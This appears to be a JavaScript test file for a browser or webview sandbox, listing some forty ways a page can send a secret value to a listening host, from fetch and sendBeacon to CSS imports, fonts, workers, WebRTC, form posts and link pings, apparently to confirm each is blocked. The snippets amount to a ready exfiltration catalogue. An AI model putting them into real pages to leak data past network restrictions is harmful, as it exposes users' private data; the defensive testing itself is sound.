// Ways in which a page can ask something of a network, each by itself. `to` is host and port of one who listens; `answer`
// stands for what must not leave, and is another each time: what was asked for once may come out of a cache. Run in the
// window's own page by page.rs.
const attempts = {
  "fetch": (to, answer) => fetch(`http://${to}/${answer}`, { mode: "no-cors" }),
  "fetch kept alive": (to, answer) => fetch(`http://${to}/`, { method: "POST", body: answer, mode: "no-cors", keepalive: true }),
  "XMLHttpRequest": (to, answer) => {
    const request = new XMLHttpRequest();
    request.open("POST", `http://${to}/`);
    request.send(answer);
  },
  "WebSocket": (to, answer) => void new WebSocket(`ws://${to}/${answer}`),
  "EventSource": (to, answer) => void new EventSource(`http://${to}/${answer}`),
  "beacon": (to, answer) => navigator.sendBeacon(`http://${to}/`, answer),
  "WebRTC": async (to) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to}` }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "image": (to, answer) => void (new Image().src = `http://${to}/${answer}.png`),
  "sound": (to, answer) => new Audio(`http://${to}/${answer}.ogg`).play(),
  "style sheet": (to, answer) => add("link", { rel: "stylesheet", href: `http://${to}/${answer}.css` }),
  "style element": (to, answer) => add("style", { textContent: `@import "http://${to}/${answer}.css"; body { background: url(http://${to}/${answer}.png) }` }),
  "style attribute": (to, answer) => document.body.setAttribute("style", `background: url(http://${to}/${answer}.png)`),
  "style set by script": (to, answer) => void (document.body.style.backgroundImage = `url(http://${to}/${answer}.png)`),
  "constructed style sheet": (to, answer) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background: url(http://${to}/${answer}.png) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  "font": (to, answer) => new FontFace("x", `url(http://${to}/${answer}.woff2)`).load(),
  "script": (to, answer) => add("script", { src: `http://${to}/${answer}.js` }),
  "module": (to, answer) => import(`http://${to}/${answer}.js`),
  "worker": (to, answer) => void new Worker(`http://${to}/${answer}.js`),
  "worker of a blob": (to, answer) => {
    const code = `fetch("http://${to}/${answer}", { mode: "no-cors" })`;
    return void new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  },
  "service worker": (to, answer) => navigator.serviceWorker.register(`http://${to}/${answer}.js`),
  "frame": (to, answer) => add("iframe", { src: `http://${to}/${answer}` }),
  "frame with a page of its own": (to, answer) => add("iframe", { srcdoc: `<img src="http://${to}/${answer}.png">` }),
  "object": (to, answer) => add("object", { data: `http://${to}/${answer}` }),
  "embedded": (to, answer) => add("embed", { src: `http://${to}/${answer}` }),
  "prefetch": (to, answer) => add("link", { rel: "prefetch", href: `http://${to}/${answer}` }),
  "preload": (to, answer) => add("link", { rel: "preload", as: "image", href: `http://${to}/${answer}.png` }),
  "module preload": (to, answer) => add("link", { rel: "modulepreload", href: `http://${to}/${answer}.js` }),
  "icon": (to, answer) => add("link", { rel: "icon", href: `http://${to}/${answer}.png` }),
  "manifest": (to, answer) => add("link", { rel: "manifest", href: `http://${to}/${answer}.json` }),
  "connection in advance": (to) => add("link", { rel: "preconnect", href: `http://${to}` }),
  "form": (to, answer) => {
    const form = add("form", { action: `http://${to}/`, method: "post" });
    form.append(Object.assign(document.createElement("input"), { name: "answer", value: answer }));
    form.submit();
  },
  "form in a new window": (to, answer) => add("form", { action: `http://${to}/${answer}`, target: "_blank" }).submit(),
  "window": (to, answer) => void open(`http://${to}/${answer}`),
  "link": (to, answer) => add("a", { href: `http://${to}/${answer}` }).click(),
  "link that tells of itself": (to, answer) => add("a", { href: "#x", ping: `http://${to}/${answer}` }).click(),
  "link to save": (to, answer) => add("a", { href: `http://${to}/${answer}`, download: "x" }).click(),
  "refresh": (to, answer) => {
    const refresh = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0; url=http://${to}/${answer}` });
    document.head.append(refresh);
  },
  "another page": (to, answer) => void (location.href = `http://${to}/${answer}`),
};

const add = (name, what) => {
  const element = Object.assign(document.createElement(name), what);
  document.body.append(element);
  return element;
};
